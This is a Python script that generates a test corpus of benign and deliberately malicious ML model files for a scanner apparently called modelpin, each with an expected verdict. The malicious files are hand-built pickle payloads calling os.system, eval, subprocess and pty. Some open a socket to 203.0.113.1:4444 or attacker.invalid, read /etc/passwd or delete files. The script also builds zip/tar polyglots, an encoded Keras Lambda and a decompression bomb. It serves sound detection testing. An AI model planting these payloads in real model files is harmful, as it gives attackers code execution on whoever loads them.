#!/usr/bin/env python3
"""Writes modelpin's scanner corpus: benign and malicious model files, one per technique.

    python3 Tests/ScanCorpus/generate.py OUTDIR

Every file is listed in OUTDIR/expected.json as
    {"file": name, "verdict": "safe"|"unsupported"|"unsafe"|"suspicious"|"malformed",
     "technique": one line, "source": "§2 #N …" (reference/scanning.md) or the container}

Nothing here imports torch or numpy or ever unpickles anything: malicious pickles are
assembled opcode by opcode (the `P` helpers below), so the names they reference need not exist
on this machine and the output is identical on every platform and Python version. Only the
plain-data pickles come from `pickle.dumps`, of built-in values.

Standard library only. Output is deterministic (no clocks, no randomness); the whole corpus is
well under 5 MB.
"""
import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import zlib

# ---------------------------------------------------------------------------------------------
# Pickle assembly


def u8(n):
    return struct.pack("<B", n)


def u16(n):
    return struct.pack("<H", n)


def u32(n):
    return struct.pack("<I", n)


def i32(n):
    return struct.pack("<i", n)


def u64(n):
    return struct.pack("<Q", n)


class P:
    """Pickle opcodes as bytes. Each helper returns the encoded opcode (and its argument)."""

    MARK = b"("
    STOP = b"."
    POP = b"0"
    POP_MARK = b"1"
    DUP = b"2"
    NONE = b"N"
    TRUE = b"\x88"
    FALSE = b"\x89"
    EMPTY_TUPLE = b")"
    EMPTY_LIST = b"]"
    EMPTY_DICT = b"}"
    EMPTY_SET = b"\x8f"
    TUPLE = b"t"
    TUPLE1 = b"\x85"
    TUPLE2 = b"\x86"
    TUPLE3 = b"\x87"
    LIST = b"l"
    DICT = b"d"
    APPEND = b"a"
    APPENDS = b"e"
    SETITEM = b"s"
    SETITEMS = b"u"
    ADDITEMS = b"\x90"
    REDUCE = b"R"
    BUILD = b"b"
    OBJ = b"o"
    NEWOBJ = b"\x81"
    NEWOBJ_EX = b"\x92"
    STACK_GLOBAL = b"\x93"
    MEMOIZE = b"\x94"
    BINPERSID = b"Q"

    @staticmethod
    def proto(n):
        return b"\x80" + u8(n)

    @staticmethod
    def frame(n):
        return b"\x95" + u64(n)

    @staticmethod
    def glob(module, name):  # GLOBAL (protocol 0 text form, used by protocols 0-3)
        return b"c" + module.encode() + b"\n" + name.encode() + b"\n"

    @staticmethod
    def inst(module, name):
        return b"i" + module.encode() + b"\n" + name.encode() + b"\n"

    @staticmethod
    def su(s):  # SHORT_BINUNICODE
        b = s.encode()
        assert len(b) < 256
        return b"\x8c" + u8(len(b)) + b

    @staticmethod
    def bu(s):  # BINUNICODE
        b = s.encode()
        return b"X" + u32(len(b)) + b

    @staticmethod
    def unicode0(s):  # UNICODE (protocol 0, raw-unicode-escape)
        return b"V" + s.encode("raw-unicode-escape") + b"\n"

    @staticmethod
    def string0(s, quote="'"):  # STRING (protocol 0, quoted)
        return b"S" + (quote + s + quote).encode() + b"\n"

    @staticmethod
    def binstring(s):  # BINSTRING
        b = s.encode()
        return b"T" + i32(len(b)) + b

    @staticmethod
    def short_binstring(s):  # SHORT_BINSTRING
        b = s.encode()
        return b"U" + u8(len(b)) + b

    @staticmethod
    def binbytes(b):
        return b"B" + u32(len(b)) + b

    @staticmethod
    def short_binbytes(b):
        return b"C" + u8(len(b)) + b

    @staticmethod
    def int0(n):
        return b"I" + str(n).encode() + b"\n"

    @staticmethod
    def int_(n):  # smallest binary int opcode
        if 0 <= n < 256:
            return b"K" + u8(n)
        if 0 <= n < 65536:
            return b"M" + u16(n)
        if -(2**31) <= n < 2**31:
            return b"J" + i32(n)
        return P.long1(n)

    @staticmethod
    def long1(n):
        b = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
        return b"\x8a" + u8(len(b)) + b

    @staticmethod
    def float_(x):
        return b"G" + struct.pack(">d", x)

    @staticmethod
    def put(n):  # PUT (protocol 0, decimal)
        return b"p" + str(n).encode() + b"\n"

    @staticmethod
    def get(n):
        return b"g" + str(n).encode() + b"\n"

    @staticmethod
    def binput(n):
        return b"q" + u8(n)

    @staticmethod
    def binget(n):
        return b"h" + u8(n)

    @staticmethod
    def long_binput(n):
        return b"r" + u32(n)

    @staticmethod
    def long_binget(n):
        return b"j" + u32(n)

    @staticmethod
    def ext1(code):
        return b"\x82" + u8(code)

    @staticmethod
    def stack_global(module, name):  # names pushed as SHORT_BINUNICODE with MEMOIZE (protocol 4)
        return P.su(module) + P.MEMOIZE + P.su(name) + P.MEMOIZE + P.STACK_GLOBAL + P.MEMOIZE

    @staticmethod
    def strings(args):
        return b"".join(P.bu(a) if isinstance(a, str) else a for a in args)


def call(module, name, args=("echo pwned",), proto=2):
    """`module.name(*args)`: the classic `__reduce__` payload, in the given protocol's form."""
    if proto == 0:
        return (P.glob(module, name) + P.MARK + b"".join(P.unicode0(a) for a in args) + P.TUPLE
                + P.REDUCE + P.STOP)
    if proto >= 4:
        body = P.stack_global(module, name) + P.MARK + P.strings(args) + P.TUPLE + P.REDUCE + P.STOP
        return P.proto(proto) + P.frame(len(body)) + body
    return P.proto(proto) + P.glob(module, name) + P.MARK + P.strings(args) + P.TUPLE + P.REDUCE + P.STOP


def call_expr(module, name, args_bytes):
    """The opcodes that push `module.name(*args)` (args_bytes pushes the arguments), no STOP."""
    return P.glob(module, name) + P.MARK + args_bytes + P.TUPLE + P.REDUCE


SYSTEM = call("os", "system")  # the reference payload (protocol 2)


# ---------------------------------------------------------------------------------------------
# Benign pickle bodies (torch state dict, numpy arrays)

TORCH_FLOAT_NUMEL = 6  # a 2x3 float32 tensor per storage


def torch_tensor(storage_key, proto_legacy=False, numel=TORCH_FLOAT_NUMEL, shape=(2, 3)):
    """`torch._utils._rebuild_tensor_v2(storage, 0, shape, stride, False, OrderedDict())` with the
    storage as a persistent id `('storage', torch.FloatStorage, key, 'cpu', numel)` (BINPERSID)."""
    pid = P.MARK + P.bu("storage") + P.glob("torch", "FloatStorage") + P.bu(storage_key) + P.bu("cpu") + P.int_(numel)
    if proto_legacy:
        pid += P.NONE  # legacy format: view_metadata
    pid += P.TUPLE + P.BINPERSID
    stride = (shape[1], 1) if len(shape) == 2 else (1,)
    return (P.glob("torch._utils", "_rebuild_tensor_v2") + P.MARK + pid + P.int_(0)
            + P.MARK + b"".join(P.int_(d) for d in shape) + P.TUPLE
            + P.MARK + b"".join(P.int_(d) for d in stride) + P.TUPLE
            + P.FALSE + P.glob("collections", "OrderedDict") + P.EMPTY_TUPLE + P.REDUCE
            + P.TUPLE + P.REDUCE)


def torch_state_dict(names=("encoder.weight", "encoder.bias", "decoder.weight"), legacy=False, payload=b""):
    """What `torch.save(model.state_dict())` writes (protocol 2): an OrderedDict of tensors, the
    `_metadata` attribute set by BUILD. `payload` (opcodes leaving one value) is inserted as an
    extra entry, for the malicious variants."""
    body = P.glob("collections", "OrderedDict") + P.EMPTY_TUPLE + P.REDUCE + P.binput(0) + P.MARK
    for i, n in enumerate(names):
        body += P.bu(n) + torch_tensor(str(i), proto_legacy=legacy)
    if payload:
        body += P.bu("extra") + payload
    body += P.SETITEMS
    meta = (P.glob("collections", "OrderedDict") + P.EMPTY_TUPLE + P.REDUCE + P.MARK + P.bu("")
            + P.EMPTY_DICT + P.bu("version") + P.int_(1) + P.SETITEM + P.SETITEMS)
    body += P.EMPTY_DICT + P.bu("_metadata") + meta + P.SETITEM + P.BUILD
    return P.proto(2) + body + P.STOP


def numpy_array(multiarray="numpy.core.multiarray", n=4, proto=4):
    """What `pickle.dumps(numpy.arange(n, dtype='<f8'))` writes at protocol 4: `_reconstruct`,
    `ndarray`, `dtype('f8', False, True)` with its BUILD state, the raw data as bytes."""
    g = (lambda m, x: P.stack_global(m, x)) if proto >= 4 else P.glob
    dtype = (g("numpy", "dtype") + P.su("f8") + P.FALSE + P.TRUE + P.TUPLE3 + P.REDUCE
             + P.MARK + P.int_(3) + P.su("<") + P.NONE + P.NONE + P.NONE
             + b"J" + i32(-1) + b"J" + i32(-1) + P.int_(0) + P.TUPLE + P.BUILD)
    data = b"".join(struct.pack("<d", float(i)) for i in range(n))
    return (g(multiarray, "_reconstruct") + g("numpy", "ndarray") + P.int_(0) + P.TUPLE1
            + P.short_binbytes(b"b") + P.TUPLE3 + P.REDUCE
            + P.MARK + P.int_(1) + P.int_(n) + P.TUPLE1 + dtype + P.FALSE + P.binbytes(data) + P.TUPLE + P.BUILD)


def numpy_pickle(multiarray="numpy.core.multiarray"):
    body = numpy_array(multiarray) + P.STOP
    return P.proto(4) + P.frame(len(body)) + body


def numpy_object_array(items_bytes, count):
    """An object-dtype array pickle (what `.npy` stores for dtype=object, protocol 3)."""
    dtype = (P.glob("numpy", "dtype") + P.bu("O8") + P.FALSE + P.TRUE + P.TUPLE3 + P.REDUCE
             + P.MARK + P.int_(3) + P.bu("|") + P.NONE + P.NONE + P.NONE + b"J" + i32(-1) + b"J" + i32(-1)
             + P.int_(63) + P.TUPLE + P.BUILD)
    return (P.proto(3) + P.glob("numpy.core.multiarray", "_reconstruct") + P.glob("numpy", "ndarray")
            + P.int_(0) + P.TUPLE1 + P.short_binbytes(b"b") + P.TUPLE3 + P.REDUCE
            + P.MARK + P.int_(1) + P.int_(count) + P.TUPLE1 + dtype + P.FALSE
            + P.EMPTY_LIST + P.MARK + items_bytes + P.APPENDS + P.TUPLE + P.BUILD + P.STOP)


# ---------------------------------------------------------------------------------------------
# Containers


def crc32(b):
    return zlib.crc32(b) & 0xFFFFFFFF


def deflate(b):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(b) + c.flush()


def make_zip(entries, central_extra=(), cd_offset_delta=0, trailing=b""):
    """A zip written byte by byte, so that every field can lie. Each entry is a dict:
      name, data; optional: local_name (name in the local header), flags, method (0 stored,
      8 deflate), crc (override), local_offset (central directory points here instead),
      skip_local (write no local header/data, only the central entry).
    `central_extra`: extra central-directory entries as (name, local_offset, size).
    Fixed DOS date (1980-01-01), so the output is deterministic."""
    out = bytearray()
    central = bytearray()
    count = 0
    for e in entries:
        raw = e["data"]
        method = e.get("method", 0)
        stored = deflate(raw) if method == 8 else raw
        crc = e.get("crc", crc32(raw))
        flags = e.get("flags", 0)
        lname = e.get("local_name", e["name"]).encode()
        cname = e["name"].encode()
        if e.get("skip_local"):
            offset = e["local_offset"]
        else:
            offset = len(out)
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x21, crc,
                               len(stored), len(raw), len(lname), 0) + lname + stored
            offset = e.get("local_offset", offset)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, 0, 0x21, crc,
                               len(stored), len(raw), len(cname), 0, 0, 0, 0, 0, offset) + cname
        count += 1
    for name, offset, size in central_extra:
        n = name.encode()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, 0,
                               size, size, len(n), 0, 0, 0, 0, 0, offset) + n
        count += 1
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), cd_offset + cd_offset_delta, 0)
    return bytes(out) + trailing


def tensor_bytes(key, numel=TORCH_FLOAT_NUMEL):
    return b"".join(struct.pack("<f", float(int(key) * 10 + i) / 8) for i in range(numel))


def torch_zip(data_pkl, names=3, pkl_member="archive/data.pkl", method=0, extra=(), **kw):
    """A PyTorch >= 1.6 checkpoint: archive/data.pkl, archive/data/N, archive/version, …"""
    entries = [{"name": pkl_member, "data": data_pkl, "method": method, **kw}]
    entries += [{"name": "archive/byteorder", "data": b"little"}]
    entries += [{"name": f"archive/data/{i}", "data": tensor_bytes(str(i))} for i in range(names)]
    entries += list(extra)
    entries += [{"name": "archive/version", "data": b"3\n"},
                {"name": "archive/.data/serialization_id", "data": b"1234567890123456789012345678901234567890"}]
    return entries


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def legacy_torch(main_pickle, keys=("0", "1", "2"), magic=None, keys_pickle=None):
    """PyTorch's legacy (pre-1.6, non-zip) format: pickles of the magic number, the protocol
    version, sys info, the object (storages as persistent ids), the storage key list, then per
    storage its element count (u64) and raw bytes."""
    out = magic if magic is not None else pickle.dumps(LEGACY_MAGIC, protocol=2)
    out += pickle.dumps(1001, protocol=2)
    out += pickle.dumps({"protocol_version": 1001, "little_endian": True,
                         "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    out += main_pickle
    out += keys_pickle if keys_pickle is not None else pickle.dumps(list(keys), protocol=2)
    for k in keys:
        out += u64(TORCH_FLOAT_NUMEL) + tensor_bytes(k)
    return out


def joblib_array(prefix, dtype, shape, data, aligned=True, dtype_memo=None, dtype_get=None, extra_state=b""):
    """`prefix` then a NumpyArrayWrapper for an array of `dtype` and `shape` (its state as
    joblib.numpy_pickle writes it), then the bytes joblib reads after its BUILD: for a numeric
    dtype, when `aligned`, one padding-length byte and that many 0xff bytes, then `data`; for an
    object dtype `data` is the nested pickle. `dtype_memo` memoizes the dtype (BINPUT),
    `dtype_get` reuses a memoized one (BINGET) instead of building it."""
    if dtype_get is not None:
        dt = P.binget(dtype_get)
    else:
        elsize = -1
        if dtype[0] in "SUV":
            elsize = int(dtype[1:]) * (4 if dtype[0] == "U" else 1)
        dt = (P.glob("numpy", "dtype") + P.su(dtype) + P.FALSE + P.TRUE + P.TUPLE3 + P.REDUCE
              + (P.binput(dtype_memo) if dtype_memo is not None else b"")
              + P.MARK + P.int_(3) + P.su("|" if dtype[0] in "OSVi" else "<") + P.NONE + P.NONE + P.NONE
              + b"J" + i32(elsize) + b"J" + i32(-1) + P.int_(0) + P.TUPLE + P.BUILD)
    shape_ops = P.EMPTY_TUPLE if not shape else P.MARK + b"".join(P.int_(n) if n < 1 << 31 else P.long1(n) for n in shape) + P.TUPLE
    state = (P.EMPTY_DICT + P.MARK
             + P.su("subclass") + P.glob("numpy", "ndarray")
             + P.su("shape") + shape_ops
             + P.su("order") + P.su("C")
             + P.su("dtype") + dt
             + P.su("allow_mmap") + P.TRUE
             + extra_state
             + ((P.su("numpy_array_alignment_bytes") + P.int_(16)) if aligned else b"")
             + P.SETITEMS)
    wrapper = P.glob("joblib.numpy_pickle", "NumpyArrayWrapper") + P.EMPTY_TUPLE + P.NEWOBJ + state + P.BUILD
    out = prefix + wrapper
    if dtype is not None and dtype.startswith("O"):
        return out + data
    if aligned:
        pad = 16 - (len(out) + 1) % 16
        out += u8(pad) + b"\xff" * pad
    return out + data


def npy(descr, shape, data, version=(1, 0)):
    header = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, repr(tuple(shape)))
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY" + bytes(version) + u16(len(header)) + header.encode("latin1") + data


def safetensors(tensors, metadata=None, header_obj=None, pad=True, raw_header=None, length_override=None, data=None):
    """tensors: list of (name, dtype, shape, nbytes). Offsets are laid out back to back unless
    `header_obj` (a dict written as-is) or `raw_header` (bytes) is given."""
    if raw_header is None:
        if header_obj is None:
            header_obj, off = {}, 0
            if metadata is not None:
                header_obj["__metadata__"] = metadata
            for name, dtype, shape, nbytes in tensors:
                header_obj[name] = {"dtype": dtype, "shape": list(shape), "data_offsets": [off, off + nbytes]}
                off += nbytes
            data_len = off
        else:
            data_len = max([v["data_offsets"][1] for k, v in header_obj.items() if k != "__metadata__"] + [0])
        raw_header = json.dumps(header_obj, separators=(",", ":")).encode()
    else:
        data_len = 0
    if pad:
        raw_header += b" " * ((8 - len(raw_header) % 8) % 8)
    if data is None:
        data = bytes((i * 7 + 3) & 0xFF for i in range(data_len))
    n = len(raw_header) if length_override is None else length_override
    return u64(n) + raw_header + data


GGML_F32, GGML_F16 = 0, 1


def gguf_str(s):
    b = s.encode()
    return u64(len(b)) + b


def gguf(version=3, kvs=None, tensors=None, tensor_count=None, kv_count=None, alignment=32, data_override=None,
         truncate_data=0):
    """GGUF: magic, version, counts, KV pairs, tensor infos, aligned data section.
    tensors: list of (name, dims, ggml_type, offset or None for automatic)."""
    kvs = kvs if kvs is not None else [("general.architecture", 8, gguf_str("llama")),
                                       ("general.alignment", 4, u32(alignment))]
    tensors = tensors if tensors is not None else [("token_embd.weight", [4, 2], GGML_F32, None)]
    out = b"GGUF" + u32(version)
    out += u64(len(tensors) if tensor_count is None else tensor_count)
    out += u64(len(kvs) if kv_count is None else kv_count)
    for key, vtype, value in kvs:
        out += gguf_str(key) + u32(vtype) + value
    data = b""
    for name, dims, gtype, offset in tensors:
        nbytes = 4 if gtype == GGML_F32 else 2
        for d in dims:
            nbytes *= d
        if offset is None:
            data += b"\x00" * ((alignment - len(data) % alignment) % alignment)
            offset = len(data)
            data += bytes((i * 13) & 0xFF for i in range(nbytes))
        out += gguf_str(name) + u32(len(dims)) + b"".join(u64(d) for d in dims) + u32(gtype) + u64(offset)
    out += b"\x00" * ((alignment - len(out) % alignment) % alignment)
    if data_override is not None:
        data = data_override
    out += data
    return out[: len(out) - truncate_data] if truncate_data else out


def pb_varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_field(num, wire, payload):
    key = pb_varint(num << 3 | wire)
    if wire == 0:
        return key + pb_varint(payload)
    return key + pb_varint(len(payload)) + payload


def onnx_model(location):
    """ModelProto{ir_version 8, producer_name, graph{node, name, initializer TensorProto{dims,
    data_type FLOAT, name, external_data [location, offset, length], data_location EXTERNAL}},
    opset_import {version 17}}."""
    def entry(k, v):
        return pb_field(13, 2, pb_field(1, 2, k.encode()) + pb_field(2, 2, v.encode()))

    tensor = (pb_field(1, 0, 4) + pb_field(1, 0, 4) + pb_field(2, 0, 1) + pb_field(8, 2, b"W")
              + entry("location", location) + entry("offset", "0") + entry("length", "64")
              + pb_field(14, 0, 1))
    node = (pb_field(1, 2, b"X") + pb_field(1, 2, b"W") + pb_field(2, 2, b"Y") + pb_field(3, 2, b"matmul")
            + pb_field(4, 2, b"MatMul"))
    value_info = pb_field(1, 2, b"X")
    graph = (pb_field(1, 2, node) + pb_field(2, 2, b"g") + pb_field(5, 2, tensor)
             + pb_field(11, 2, value_info) + pb_field(12, 2, pb_field(1, 2, b"Y")))
    return (pb_field(1, 0, 8) + pb_field(2, 2, b"modelpin-corpus") + pb_field(7, 2, graph)
            + pb_field(8, 2, pb_field(2, 0, 17)))


def keras_zip(layers):
    config = {"module": "keras", "class_name": "Sequential",
              "config": {"name": "sequential", "layers": layers}, "registered_name": None}
    meta = {"keras_version": "3.6.0", "date_saved": "2026-01-01@00:00:00"}
    return make_zip([{"name": "metadata.json", "data": json.dumps(meta).encode()},
                     {"name": "config.json", "data": json.dumps(config, indent=1).encode()}])


DENSE = {"module": "keras.layers", "class_name": "Dense",
         "config": {"name": "dense", "units": 4, "activation": "relu", "use_bias": True}, "registered_name": None}
INPUT = {"module": "keras.layers", "class_name": "InputLayer",
         "config": {"batch_shape": [None, 8], "dtype": "float32", "name": "input"}, "registered_name": None}
LAMBDA = {"module": "keras.layers", "class_name": "Lambda",
          "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {
              "code": "4wEAAAAAAAAAAAAAAAEAAAAEAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJOegplY2hvIHB3bmVkKQHaBnN5c3RlbSkB2gF4qQByAwAAAPoFPHN0ZGluPtoIPGxhbWJkYT4BAAAA8wAAAAA=",
              "defaults": None, "closure": None}}}, "registered_name": None}


# ---------------------------------------------------------------------------------------------
# Tar, legacy torch tar, joblib ZF, 7z (scan-containers)


def tar_block(name, data=b"", typeflag=b"0", size_field=None, linkname=b"", prefix=b""):
    """One tar member written byte by byte (ustar header, data padded to 512), so that every
    field can lie: `size_field` replaces the 12-byte size text."""
    name = name.encode() if isinstance(name, str) else name
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = size_field if size_field is not None else b"%011o\0" % len(data)
    h[136:148] = b"00000000000\0"
    h[148:156] = b" " * 8
    h[156:157] = typeflag
    h[157:157 + len(linkname)] = linkname
    h[257:265] = b"ustar\x0000"
    h[345:345 + len(prefix)] = prefix
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h) + data + b"\0" * ((512 - len(data) % 512) % 512)


def pax_records(records):
    out = b""
    for key, value in records:
        body = b" " + key.encode() + b"=" + value + b"\n"
        n = len(body) + 1
        while len(str(n)) + len(body) != n:
            n += 1
        out += str(n).encode() + body
    return out


def pax_block(records, typeflag=b"x"):
    return tar_block("././@PaxHeader", pax_records(records), typeflag=typeflag)


def make_tar(blocks, trailing=b""):
    return b"".join(blocks) + b"\0" * 1024 + trailing


def python_tar(members, fmt=tarfile.PAX_FORMAT, compress=""):
    """A tar written by Python's own tarfile (deterministic: mtime 0, no owner names)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w" + (":" + compress if compress else ""), format=fmt) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            tar.addfile(info, io.BytesIO(data))
    out = buf.getvalue()
    if compress == "gz":  # the gzip header's mtime and name fields: make them fixed
        out = out[:4] + b"\0\0\0\0" + out[8:]
    return out


def legacy_storage_args(key, payload=b""):
    """`(key, location, storage_type)` as legacy torch pickles it (protocol 2)."""
    return P.proto(2) + P.MARK + P.bu(key) + P.bu("cpu") + P.glob("torch", "FloatStorage") + payload + P.TUPLE + P.STOP


def legacy_storages(keys=("0", "1"), args_payload=b"", views=None):
    out = pickle.dumps(len(keys), protocol=2)
    for k in keys:
        out += legacy_storage_args(k, args_payload) + u64(TORCH_FLOAT_NUMEL) + tensor_bytes(k)
    return out + (views if views is not None else pickle.dumps([], protocol=2))


def legacy_tensors(keys=("0", "1"), payload=b""):
    out = pickle.dumps(len(keys), protocol=2)
    for k in keys:
        out += (P.proto(2) + P.MARK + P.bu("t" + k) + P.bu(k) + P.glob("torch", "FloatTensor") + payload + P.TUPLE + P.STOP
                + i32(2) + i32(0) + struct.pack("<qq", 2, 3) + struct.pack("<qq", 3, 1) + struct.pack("<q", 0))
    return out


LEGACY_MAIN = (P.proto(2) + P.EMPTY_DICT + P.bu("encoder.weight") + P.bu("t0") + P.BINPERSID + P.SETITEM
               + P.bu("encoder.bias") + P.bu("t1") + P.BINPERSID + P.SETITEM + P.STOP)


def legacy_torch_tar(main=LEGACY_MAIN, storages=None, tensors=None):
    """What torch.save wrote before 0.4 (`_legacy_save` with a tar): sys_info, pickle, tensors,
    storages, written by Python's tarfile in pax format as torch did."""
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                             "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    return python_tar([("sys_info", sys_info), ("pickle", main),
                       ("tensors", tensors if tensors is not None else legacy_tensors()),
                       ("storages", storages if storages is not None else legacy_storages())])


def joblib_zf(data, length_text=None, python2_space=False):
    """joblib < 0.10: "ZF", the length as hex padded to 19 bytes (joblib reads `int(x, 16)`),
    one more space for files written by Python 2, then zlib."""
    text = (length_text if length_text is not None else hex(len(data))).encode().ljust(19)
    return b"ZF" + text + (b" " if python2_space else b"") + zlib.compress(data, 9)


def num7(v):
    """7z's variable-length NUMBER."""
    for n in range(8):
        if v < 1 << (8 * n + 7 - n):
            return bytes([((0xFF << (8 - n)) & 0xFF) | (v >> (8 * n))]) + (v & ((1 << (8 * n)) - 1)).to_bytes(n, "little")
    return b"\xff" + v.to_bytes(8, "little")


def seven_zip(files):
    """A 7z archive with the Copy method and a plain header, written by hand: Python's standard
    library has no 7z writer. `files`: (name, data) pairs, one folder each."""
    packed = b"".join(d for _, d in files)
    h = b"\x01\x04"  # Header, MainStreamsInfo
    h += b"\x06" + num7(0) + num7(len(files)) + b"\x09" + b"".join(num7(len(d)) for _, d in files) + b"\x00"
    h += b"\x07\x0b" + num7(len(files)) + b"\x00" + b"\x01\x01\x00" * len(files)  # one coder per folder: Copy (id 00)
    h += b"\x0c" + b"".join(num7(len(d)) for _, d in files) + b"\x00"
    h += b"\x08\x00"  # SubStreamsInfo: one stream per folder (libarchive needs it said)
    h += b"\x00"  # end of MainStreamsInfo
    names = b"\x00" + b"".join(n.encode("utf-16-le") + b"\x00\x00" for n, _ in files)
    h += b"\x05" + num7(len(files)) + b"\x11" + num7(len(names)) + names + b"\x00"
    h += b"\x00"
    start = struct.pack("<QQI", len(packed), len(h), crc32(h))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + u32(crc32(start)) + start + packed + h


def zip_tar_polyglot(zip_member, tar_member):
    """A file that is a zip (torch opens it: one stored member `a`) and a tar (tarfile opens it,
    as NeMo does: one member holding `tar_member`). The zip's local header sits in the tar's name
    field; its central directory is the data of a second tar member, and the zip comment runs to
    the end of the file, so neither reader sees anything out of place."""
    name = b"a"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc32(zip_member), len(zip_member),
                        len(zip_member), len(name), 0) + name + zip_member
    assert len(local) < 100
    h = bytearray(tar_block("x", tar_member)[:512])
    h[0:100] = local.ljust(100, b"\0")
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    first = bytes(h) + tar_member + b"\0" * ((512 - len(tar_member) % 512) % 512)
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, crc32(zip_member), len(zip_member),
                          len(zip_member), len(name), 0, 0, 0, 0, 0, 0) + name
    pad = (512 - (len(central) + 22) % 512) % 512
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(first) + 512, pad)
    return first + tar_block("zipdir", central + eocd + b"\0" * pad)


def gzip_tar_polyglot(gzipped, tar_extra=()):
    """A gzip stream (joblib and gzip.open read the pickle inside) that is also a tar (tarfile
    reads a member holding the raw DEFLATE bytes): the gzip header's extra field spans the rest of
    the tar header, and the DEFLATE data and trailer are the tar member's data; gzip readers skip
    the zero padding after it."""
    raw = gzipped[10:]  # DEFLATE data + CRC32 + ISIZE of a header without optional fields
    h = bytearray(tar_block("x", raw)[:512])
    h[0:12] = bytes([0x1F, 0x8B, 0x08, 0x04, 0, 0, 0, 0, 0, 0xFF]) + u16(500)
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return make_tar([bytes(h) + raw + b"\0" * ((512 - len(raw) % 512) % 512)] + list(tar_extra))


def size_bomb():
    """More than 256 MiB out of about 400 KB of gzip (about 690:1, under the ratio cap): only the
    absolute cap stops it. Zeros with a pseudo-random byte every 8000 bytes, deterministic."""
    block = bytearray(1 << 20)
    state = 12345
    for i in range(0, len(block), 8000):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        block[i] = state & 0xFF
    co = zlib.compressobj(6, zlib.DEFLATED, 31)
    block = bytes(block)
    return b"".join(co.compress(block) for _ in range(260)) + co.flush()


# ---------------------------------------------------------------------------------------------
# The corpus


class Corpus:
    def __init__(self, outdir):
        self.outdir = outdir
        self.entries = []
        self.names = set()

    def add(self, name, data, verdict, technique, source):
        assert name not in self.names, name
        assert verdict in ("safe", "unsupported", "unsafe", "suspicious", "malformed"), verdict
        self.names.add(name)
        with open(os.path.join(self.outdir, name), "wb") as f:
            f.write(data)
        self.entries.append({"file": name, "verdict": verdict, "technique": technique, "source": source})

    def finish(self):
        with open(os.path.join(self.outdir, "expected.json"), "w") as f:
            json.dump(self.entries, f, indent=1)
            f.write("\n")


def malicious_calls(c):
    """One REDUCE of a dangerous callable per file: the blocklist, category by category."""
    gadgets = [
        # (file stem, module, name, args, source)
        ("os_system", "os", "system", ["echo pwned"], "classic __reduce__ payload"),
        ("posix_system", "posix", "system", ["echo pwned"], "what pickle writes for os.system on Linux"),
        ("nt_system", "nt", "system", ["echo pwned"], "os.system on Windows"),
        ("os_execv", "os", "execv", ["/bin/sh", ["sh"]], "process replacement"),
        ("subprocess_popen", "subprocess", "Popen", [["sh", "-c", "echo pwned"]], "subprocess"),
        ("subprocess_check_output", "subprocess", "check_output", [["id"]], "subprocess"),
        ("builtins_eval", "builtins", "eval", ["__import__('os').system('echo pwned')"], "code execution"),
        ("builtins_exec", "builtins", "exec", ["import os; os.system('echo pwned')"], "code execution"),
        ("builtins_compile", "builtins", "compile", ["1", "<x>", "eval"], "code building"),
        ("builtins_import", "builtins", "__import__", ["os"], "__import__ (missing from picklescan's list)"),
        ("builtin_py2_eval", "__builtin__", "eval", ["1+1"], "§2 #22: Python 2 builtins name"),
        ("builtins_open", "builtins", "open", ["/etc/passwd"], "file access"),
        ("builtins_breakpoint", "builtins", "breakpoint", [], "debugger"),
        ("runpy_run_path", "runpy", "run_path", ["/tmp/x.py"], "runpy"),
        ("runpy_run_code", "runpy", "_run_code", ["print(1)", {}], "runpy private helper"),
        ("importlib_import_module", "importlib", "import_module", ["os"], "import machinery"),
        ("pickle_loads", "pickle", "loads", [SYSTEM], "§2 #16: nested pickle.loads"),
        ("_pickle_loads", "_pickle", "loads", [SYSTEM], "§2 #16: nested _pickle.loads"),
        ("marshal_loads", "marshal", "loads", [b"\xe3" + b"\x00" * 16], "bytecode loading"),
        ("types_codetype", "types", "CodeType", [0, 0], "§2 #17: types.CodeType (GHSA-9m3x-qqw2-h32h)"),
        ("types_functiontype", "types", "FunctionType", [None, {}], "function construction"),
        ("webbrowser_open", "webbrowser", "open", ["http://attacker.invalid/"], "network"),
        ("shutil_rmtree", "shutil", "rmtree", ["/tmp/victim"], "files"),
        ("socket_create_connection", "socket", "create_connection", [("203.0.113.1", 4444)], "network"),
        ("sys_exit", "sys", "exit", [1], "sys"),
        ("pty_spawn", "pty", "spawn", ["/bin/sh"], "pty"),
